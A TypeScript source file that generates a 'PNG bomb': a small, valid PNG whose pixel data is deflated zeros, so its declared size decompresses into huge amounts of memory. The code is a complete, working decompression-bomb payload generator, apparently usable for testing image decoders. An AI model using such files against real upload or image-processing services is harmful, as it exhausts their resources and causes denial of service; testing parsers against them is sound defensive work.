/** A PNG of very many black pixels and few bytes. */
import { finished } from 'node:stream/promises'
import { createDeflate } from 'node:zlib'

const SIGNATURE = Buffer.from([137, 80, 78, 71, 13, 10, 26, 10])
const PIECE = Buffer.alloc(1_048_576)
const CRC = Array.from({ length: 256 }, (_, byte) => {
  let sum = byte
  for (let bit = 0; bit < 8; bit += 1) sum = sum & 1 ? 0xedb88320 ^ (sum >>> 1) : sum >>> 1
  return sum >>> 0
})

export interface PngHead {
  width: number
  height: number
  /** Of each of its colours. */
  bits: number
  /** Colours of a pixel: 1 is grey, 3 are red, green and blue. */
  colours: 1 | 3
}

export async function pngBomb({ width, height, bits, colours }: PngHead): Promise<Buffer> {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width)
  head.writeUInt32BE(height, 4)
  head.set([bits, colours === 1 ? 0 : 2], 8)
  const rowBytes = 1 + Math.ceil((width * bits * colours) / 8)
  const pixels = await deflateZeros(rowBytes * height)
  return Buffer.concat([SIGNATURE, chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND')])
}

async function deflateZeros(bytes: number): Promise<Buffer> {
  const packed: Buffer[] = []
  const deflate = createDeflate({ level: 9 }).on('data', (piece: Buffer) => packed.push(piece))
  for (let left = bytes; left > 0; left -= PIECE.length) {
    const more = deflate.write(PIECE.subarray(0, Math.min(left, PIECE.length)))
    if (!more) await new Promise((resolve) => deflate.once('drain', resolve))
  }
  deflate.end()
  await finished(deflate)
  return Buffer.concat(packed)
}

function chunk(type: string, data: Buffer = Buffer.alloc(0)): Buffer {
  const bytes = Buffer.alloc(12 + data.length)
  bytes.writeUInt32BE(data.length)
  bytes.write(type, 4, 'latin1')
  bytes.set(data, 8)
  let sum = 0xffffffff
  for (const byte of bytes.subarray(4, 8 + data.length)) {
    sum = (CRC[(sum ^ byte) & 255] ?? 0) ^ (sum >>> 8)
  }
  bytes.writeUInt32BE((sum ^ 0xffffffff) >>> 0, 8 + data.length)
  return bytes
}
